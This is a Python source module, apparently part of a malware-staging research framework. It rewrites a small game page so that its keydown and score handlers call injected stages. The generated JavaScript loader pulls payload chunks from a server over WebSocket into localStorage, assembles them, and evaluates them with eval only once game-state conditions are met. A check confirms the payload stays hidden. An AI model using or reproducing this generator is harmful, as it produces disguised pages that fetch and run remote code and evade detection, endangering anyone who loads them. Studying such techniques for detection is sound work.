"""User-driven preparation: staging steps run inside a carrier's event handlers.

The carrier page (a small game) is rewritten at the AST level: every binding
inserts a call to a loader-defined stage into a named carrier function.  The
spray stage copies the next slice of chunks out of local storage, the last
slice raises the carrier's flag, and the run stage evaluates the staged code
only when its guard over carrier state holds.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field

from ..emulator.config import EventDescriptor
from ..js import nodes as n
from ..js.parser import parse_source
from ..js.printer import print_ast
from ..js.query import find_function
from ..js.source import FileSet, SourceFile
from .bundle import StagedBundle, Technique, check_secrecy
from .chunks import ChunkPolicy, split_payload
from .delegated import secrecy_limit, staging_metadata
from .sample import AnnotatedSample, feed_for, server_prelude, with_loader

STAGES = ("spray_step", "run")
DEFAULT_STEPS = 4


class MissingHookSite(LookupError):
    pass


class InvalidBinding(ValueError):
    pass


@dataclass(frozen=True)
class Guard:
    """``flag == flag_value && counter >= threshold`` over carrier variables."""

    flag: str = "bonus"
    flag_value: float = 1
    counter: str = "score"
    threshold: float = 10
    # start with the flag already raised
    preset: bool = False

    def variables(self) -> tuple[str, str]:
        return self.flag, self.counter

    def expression(self) -> n.Node:
        return n.Logical(
            "&&",
            n.Binary("==", n.Identifier(self.flag), n.NumberLit(float(self.flag_value))),
            n.Binary(">=", n.Identifier(self.counter), n.NumberLit(float(self.threshold))),
        )

    def to_json(self) -> dict:
        return {"flag": self.flag, "flag_value": self.flag_value, "counter": self.counter,
                "threshold": self.threshold, "preset": self.preset}


@dataclass(frozen=True)
class EventBinding:
    event_kind: str
    hook_site: str
    stage_id: str
    guard: Guard | None = None
    # where the stage call goes in the hook body: "start" or "end"
    position: str = "start"
    # payload of the event a replay trace uses to fire this binding
    trigger_payload: tuple = field(default=())

    def __post_init__(self) -> None:
        if self.stage_id not in STAGES:
            raise InvalidBinding(f"unknown stage {self.stage_id!r}")
        if self.position not in ("start", "end"):
            raise InvalidBinding(f"unknown position {self.position!r}")

    @property
    def trigger(self) -> EventDescriptor:
        return EventDescriptor(self.event_kind, tuple(sorted(self.trigger_payload)))

    def to_json(self) -> dict:
        return {"event_kind": self.event_kind, "hook_site": self.hook_site, "stage_id": self.stage_id,
                "guard": self.guard.to_json() if self.guard else None, "position": self.position,
                "trigger": self.trigger.to_json()}


def default_bindings(guard: Guard | None = None) -> list[EventBinding]:
    """Spray on every direction change; run after a score update once armed."""
    return [
        EventBinding("keydown", "changeDirection", "spray_step", trigger_payload=(("which", 37),)),
        EventBinding("food", "updateScore", "run", guard or Guard(), position="end"),
    ]


def _top_level_vars(program: n.Program) -> dict[str, n.Declarator]:
    found = {}
    for stmt in program.body:
        if isinstance(stmt, n.VarDecl):
            for d in stmt.declarations:
                found[d.name] = d
    return found


def _stage_call(binding: EventBinding) -> n.Node:
    call = n.ExprStmt(n.Call(n.Identifier(binding.stage_id), []))
    if binding.guard is None:
        return call
    return n.If(binding.guard.expression(), call)


def rewrite_carrier(carrier: n.Program, bindings: list[EventBinding]) -> n.Program:
    """Insert every binding's stage call into its hook function, in place."""
    declared = _top_level_vars(carrier)
    for b in bindings:
        fn = find_function(carrier, b.hook_site)
        if fn is None:
            raise MissingHookSite(f"carrier has no function {b.hook_site!r}")
        if b.guard is not None:
            missing = [v for v in b.guard.variables() if v not in declared]
            if missing:
                raise InvalidBinding(f"guard uses variables the carrier does not define: {missing}")
            if b.guard.preset:
                declared[b.guard.flag].init = n.NumberLit(float(b.guard.flag_value))
        stmt = _stage_call(b)
        if b.position == "start":
            fn.body.insert(0, stmt)
        else:
            fn.body.append(stmt)
    return carrier


def _num(v: float) -> str:
    return str(int(v)) if float(v).is_integer() else repr(float(v))


def stage_loader(nchunks: int, steps: int, flag: Guard | None) -> str:
    stride = math.ceil(nchunks / steps)
    arm = f"            {flag.flag} = {_num(flag.flag_value)};\n" if flag else ""
    return server_prelude() + f"""var NCHUNKS = {nchunks};
var NSTEPS = {steps};
var STRIDE = {stride};
var STEP = 0;
var STAGE = "";
var ws = new WebSocket("ws://" + server + ":" + port + "/ws");
ws.onmessage = function (evt) {{
    localStorage.setItem("k" + evt.data.id, evt.data.chunk);
}};
function spray_step() {{
    if (STEP < NSTEPS) {{
        for (var j = STEP * STRIDE; j < (STEP + 1) * STRIDE && j < NCHUNKS; j++)
            STAGE += localStorage.getItem("k" + j);
        STEP++;
        if (STEP == NSTEPS)
{arm or "            STEP = NSTEPS;"}
    }}
}}
function run() {{
    eval(STAGE);
}}
"""


def plan_user_driven(sample: AnnotatedSample, carrier: FileSet, bindings: list[EventBinding] | None = None,
                     policy: ChunkPolicy = ChunkPolicy(), steps: int = DEFAULT_STEPS) -> StagedBundle:
    bindings = list(bindings) if bindings is not None else default_bindings()
    if steps < 1:
        raise InvalidBinding("steps must be >= 1")
    sample.validate()
    program = parse_source(carrier.page.body, carrier.page.id)
    rewrite_carrier(program, bindings)
    region = sample.region_text
    plan = split_payload(region, policy)
    flag = next((b.guard for b in bindings if b.guard is not None), None)
    loader = stage_loader(len(plan), steps, flag)
    page = with_loader(sample, loader) + "\n" + print_ast(program)
    files = FileSet([SourceFile("page.js", page, "page")])
    check_secrecy(files, region, secrecy_limit(plan, policy))
    # one keydown per spray call site suffices: the carrier re-registers its handler every tick
    trace = tuple(b.trigger for b in bindings)
    return StagedBundle(
        technique=Technique.USER_DRIVEN,
        sample_id=sample.id,
        files=files,
        feed=feed_for(plan, shuffle_seed=policy.seed),
        chunk_size=policy.chunk_size,
        seed=policy.seed,
        required_event_trace=trace,
        metadata={"bindings": [b.to_json() for b in bindings], "steps": steps,
                  "carrier": carrier.page.id, **staging_metadata(sample, plan)},
    )
